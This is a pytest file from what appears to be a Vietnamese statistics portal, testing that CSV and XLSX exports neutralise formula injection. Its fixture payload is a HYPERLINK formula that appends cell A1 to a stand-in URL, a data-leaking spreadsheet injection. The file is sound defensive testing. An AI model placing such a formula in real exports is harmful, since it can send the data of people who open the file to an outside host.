"""Issue 8, defect 5: a text saved on a figure or a unit never reaches a downloaded spreadsheet as a formula.

Every CSV and XLSX writer goes through ``chiso.engine.spreadsheet``: a CSV cell gets a leading apostrophe,
an XLSX cell stays the same text but is a string cell with the quote prefix (no ``<f>`` element in the
file). Negative numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from chiso.engine.spreadsheet import is_formula_like, put_row, safe_cell

PAYLOAD = '=HYPERLINK("http://x"&A1,"Nguồn")'
NAME = "@SUM(1+1) Phường"


def _no_formula_in(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def _cells(content: bytes, sheet: str) -> list:
    book = load_workbook(io.BytesIO(content))  # not data_only: a formula would read as "=…" with type "f"
    return [c for row in book[sheet].iter_rows() for c in row]


def _is_inert(cell, text: str) -> bool:
    return cell.value == text and cell.data_type == "s" and cell.quotePrefix is True


# -- the helper, without a database -------------------------------------------------------------------

@pytest.mark.parametrize("text", [PAYLOAD, "+1", "-1+A1", "@x", "\tx", "\r=1", "=", "-"])
def test_formula_like_text_is_neutralised_in_csv_and_xlsx(text):
    assert safe_cell(text) == "'" + text
    sheet = Workbook().active
    put_row(sheet, [text, -12, -3.5, "-12", "Phường Thạc Gián"])
    first, number, decimal, plain, name = sheet[1]
    assert (first.value, first.data_type, first.quotePrefix) == (text, "s", True)
    assert (number.value, number.data_type, decimal.value, decimal.data_type) == (-12, "n", -3.5, "n")
    assert (plain.value, plain.data_type, plain.quotePrefix) == ("-12", "s", False)
    assert (name.value, name.quotePrefix) == ("Phường Thạc Gián", False)


def test_negative_numbers_and_number_text_are_not_formulas():
    assert [is_formula_like(v) for v in (-12, -3.5, "-12", "-1.234,5", "-91,5%", None, "2024-07")] == [False] * 7


def test_control_characters_xml_cannot_hold_are_dropped_not_refused():
    sheet = Workbook().active
    put_row(sheet, ["a\x01b\x1fc"])
    assert sheet["A1"].value == "abc"


# -- every download -----------------------------------------------------------------------------------

@pytest.fixture
def poisoned(db):
    """A real figure of quận Thanh Khê (2024) whose source is a formula, and a ward named like one."""
    from tests.portal.helpers import put, unit

    put(unit("2024", "491"), "XHS-06", "2024-06", "120000", source=PAYLOAD)
    ward = unit("2024", "20221")
    ward.name = NAME
    ward.save()
    from chiso.portal import queries

    queries.clear_memo()
    return ward


def test_the_indicator_xlsx_keeps_the_source_and_the_unit_name_as_text(client, poisoned):
    response = client.get("/chi-tieu/XHS-06/tai-ve.xlsx?v=2024&don-vi=491")
    assert response.status_code == 200
    _no_formula_in(response.content)
    sources = [c for c in _cells(response.content, "Nguồn") if c.value == PAYLOAD]
    assert len(sources) == 1 and _is_inert(sources[0], PAYLOAD)
    names = [c for c in _cells(response.content, "Theo phường, xã") if c.value == NAME]
    assert names and all(_is_inert(c, NAME) for c in names)
    header = next(c.row for c in _cells(response.content, "Theo phường, xã") if c.value == "Hạng")
    values = [c for c in _cells(response.content, "Theo phường, xã")
              if c.column == 8 and c.row > header and c.value is not None]
    assert values and all(c.data_type == "n" for c in values)  # the figures stay numbers


def test_the_indicator_csv_prefixes_the_unit_name(client, poisoned):
    response = client.get("/chi-tieu/XHS-06/tai-ve.csv?v=2024&don-vi=491&bang=theo-don-vi")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    named = [r for r in rows if r[2] == "20221"]
    assert named and all(r[3] == "'" + NAME for r in named)
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)


def test_the_annual_report_xlsx_keeps_the_source_as_text(client, poisoned):
    response = client.get("/bao-cao/2024/491/2024.xlsx")
    assert response.status_code == 200
    _no_formula_in(response.content)
    sources = [c for c in _cells(response.content, "Nguồn") if c.value == PAYLOAD]
    assert len(sources) == 1 and _is_inert(sources[0], PAYLOAD)
    children = [c for c in _cells(response.content, "Đơn vị trực thuộc") if c.value == NAME]
    assert len(children) == 1 and _is_inert(children[0], NAME)


def test_the_history_export_keeps_the_source_as_text(client, poisoned, city_admin):
    client.force_login(city_admin)
    for fmt in ("csv", "xlsx"):
        response = client.get(f"/nhap-lieu/lich-su/2024/491/tai-ve.{fmt}?tu=2024-06&den=2024-06")
        assert response.status_code == 200, fmt
        content = b"".join(response.streaming_content) if response.streaming else response.content
        if fmt == "csv":
            line = next(line for line in content.decode("utf-8-sig").splitlines() if "XHS-06" in line)
            assert next(csv.reader([line], delimiter=";"))[10] == "'" + PAYLOAD
        else:
            _no_formula_in(content)
            cells = [c for c in _cells(content, "Lịch sử số liệu") if c.value == PAYLOAD]
            assert len(cells) == 1 and _is_inert(cells[0], PAYLOAD)


def test_the_api_csv_prefixes_the_unit_name(client, poisoned):
    response = client.get("/api/v1/analytics/values?data=XHS-06&units=20221&periods=2024-12&hierarchy=2024"
                          "&format=csv")
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert [r["unit_name"] for r in rows] == ["'" + NAME]


def test_the_importer_template_and_preview_keep_a_unit_name_as_text(poisoned):
    from chiso.collection.importer.template import template_for
    from chiso.collection.models import Form
    from chiso.engine.periods import Period

    form = Form.objects.get(code="BC-CDS-THANG-XA")
    content = template_for(form, [poisoned], Period.parse("2024-03"), "xlsx")
    _no_formula_in(content)
    names = [c for row in load_workbook(io.BytesIO(content)).worksheets[0].iter_rows()
             for c in row if c.value == NAME]
    assert len(names) == 1 and _is_inert(names[0], NAME)
    lines = template_for(form, [poisoned], Period.parse("2024-03"), "csv").decode("utf-8-sig").splitlines()
    assert any(line.startswith("20221;'" + NAME + ";") for line in lines)
